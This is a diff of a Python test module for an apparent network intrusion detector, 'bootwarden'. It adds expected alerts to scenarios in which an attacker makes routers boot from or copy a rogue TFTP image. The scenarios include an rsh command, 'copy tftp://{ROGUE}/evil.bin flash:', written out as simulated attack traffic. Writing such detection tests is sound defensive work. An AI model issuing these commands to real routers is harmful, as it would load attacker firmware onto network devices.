@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from bootwarden.scenarios.model import Expect, Notice, scenario
+from bootwarden.scenarios.model import Alert, Expect, Notice, scenario
 from bootwarden.scenarios.sites import HQ
 from bootwarden.traffic import syslog
 from bootwarden.traffic.telnet import BACKSPACE, DELETE, KILL_LINE, Telnet, rsh
@@ -18,7 +18,13 @@ def command(server: str | None = ROGUE, file: str | None = "evil.bin", device: s
     return Notice("Boot_Command", device, server, file)
 
 
-@scenario("BW07", "malicious", site=HQ, with_site=Expect((command(),)))
+@scenario(
+    "BW07",
+    "malicious",
+    plain=Expect(alerts=(Alert(1542005070, "10.0.6.6", "10.0.1.1"),)),
+    site=HQ,
+    with_site=Expect((command(),), alerts=(Alert(1542107000, "10.0.6.6", "10.0.1.1"),)),
+)
 def bw07_boot_system_typed(wire: Wire) -> None:
     """An attacker logs in by telnet and sets a router to boot from his TFTP server."""
     session = Telnet(wire, ATTACKER, DEVICE)
@@ -30,7 +36,13 @@ def bw07_boot_system_typed(wire: Wire) -> None:
     session.close()
 
 
-@scenario("BW07", "malicious", site=HQ, with_site=Expect((command(),)))
+@scenario(
+    "BW07",
+    "malicious",
+    plain=Expect(alerts=(Alert(1542005070, "10.0.9.10", "10.0.1.1"),)),
+    site=HQ,
+    with_site=Expect((command(),), alerts=(Alert(1542107010, "10.0.9.10", "10.0.1.1"),)),
+)
 def bw07_abbreviated_and_edited(wire: Wire) -> None:
     """The same from an admin's machine, key by key, abbreviated, with rubbed out letters and killed lines."""
     session = Telnet(wire, ADMIN, DEVICE, by_key=True)
@@ -44,6 +56,14 @@ def bw07_abbreviated_and_edited(wire: Wire) -> None:
 @scenario(
     "BW07",
     "malicious",
+    plain=Expect(
+        alerts=(
+            Alert(1542005077, "10.0.1.1", "10.0.9.20"),
+            Alert(1542005077, "10.0.1.2", "10.0.9.20"),
+            Alert(1542005077, "10.0.1.3", "10.0.9.20"),
+            Alert(1542005078, "10.0.1.4", "10.0.9.20"),
+        )
+    ),
     site=HQ,
     with_site=Expect(
         (
@@ -51,7 +71,13 @@ def bw07_abbreviated_and_edited(wire: Wire) -> None:
             command(file="jinstall-evil.tgz", device="10.0.1.2"),
             command(file="evil.swi", device="10.0.1.3"),
             command(file="evil.cfg", device="10.0.1.4"),
-        )
+        ),
+        alerts=(
+            Alert(1542107007, "10.0.1.1", "10.0.9.20"),
+            Alert(1542107007, "10.0.1.2", "10.0.9.20"),
+            Alert(1542107007, "10.0.1.3", "10.0.9.20"),
+            Alert(1542107008, "10.0.1.4", "10.0.9.20"),
+        ),
     ),
 )
 def bw07_logged_by_syslog(wire: Wire) -> None:
@@ -71,7 +97,24 @@ def bw07_logged_by_syslog(wire: Wire) -> None:
     syslog.send(wire, "10.0.1.4", f"<190>: 2026 Jan  5 08:00:00 UTC: {text}")
 
 
-@scenario("BW07", "malicious", site=HQ, with_site=Expect((command(file="evil.bin"), command(device="10.0.1.2"))))
+@scenario(
+    "BW07",
+    "malicious",
+    plain=Expect(
+        alerts=(
+            Alert(1542005071, "10.0.6.6", "10.0.1.1"),
+            Alert(1542005076, "10.0.6.6", "10.0.1.2"),
+        )
+    ),
+    site=HQ,
+    with_site=Expect(
+        (command(file="evil.bin"), command(device="10.0.1.2")),
+        alerts=(
+            Alert(1542107001, "10.0.6.6", "10.0.1.1"),
+            Alert(1542107006, "10.0.6.6", "10.0.1.2"),
+        ),
+    ),
+)
 def bw07_copy_dialogue_and_rsh(wire: Wire) -> None:
     """`copy tftp: flash:` asks for server and file at its prompts; another router gets its order by rsh."""
     session = Telnet(wire, ATTACKER, DEVICE)
@@ -84,7 +127,13 @@ def bw07_copy_dialogue_and_rsh(wire: Wire) -> None:
     rsh(wire, ATTACKER, "10.0.1.2", f"copy tftp://{ROGUE}/evil.bin flash:")
 
 
-@scenario("BW07", "malicious", site=HQ, with_site=Expect((command(file="evil.bin"),)))
+@scenario(
+    "BW07",
+    "malicious",
+    plain=Expect(alerts=(Alert(1542005075, "10.0.1.1", "10.0.9.10"),)),
+    site=HQ,
+    with_site=Expect((command(file="evil.bin"),), alerts=(Alert(1542107005, "10.0.1.1", "10.0.9.10"),)),
+)
 def bw07_loader_output(wire: Wire) -> None:
     """Behind a terminal server, a router's loader says from where it loads."""
     session = Telnet(wire, ADMIN, DEVICE, prompt="rommon 1 > ")
@@ -98,9 +147,21 @@ def bw07_loader_output(wire: Wire) -> None:
 @scenario(
     "BW07",
     "malicious",
+    plain=Expect(
+        alerts=(
+            Alert(1542005070, "10.0.6.6", "10.0.1.3"),
+            Alert(1542005072, "10.0.6.6", "10.0.1.1"),
+            Alert(1542005073, "10.0.6.6", "10.0.1.2"),
+        )
+    ),
     site=HQ,
     with_site=Expect(
-        (command(None, "startup-config"), command(None, None, "10.0.1.2"), command(None, None, "10.0.1.3"))
+        (command(None, "startup-config"), command(None, None, "10.0.1.2"), command(None, None, "10.0.1.3")),
+        alerts=(
+            Alert(1542107000, "10.0.6.6", "10.0.1.3"),
+            Alert(1542107002, "10.0.6.6", "10.0.1.1"),
+            Alert(1542107003, "10.0.6.6", "10.0.1.2"),
+        ),
     ),
 )
 def bw07_without_a_server(wire: Wire) -> None:
@@ -147,6 +208,12 @@ def bw07_not_a_device_talk(wire: Wire) -> None:
 @scenario(
     "BW07",
     "benign",
+    plain=Expect(
+        alerts=(
+            Alert(1542005070, "10.0.9.10", "10.0.1.1"),
+            Alert(1542005071, "10.0.9.10", "10.0.1.1"),
+        )
+    ),
     site=HQ,
     with_site=Expect(
         evidence=(
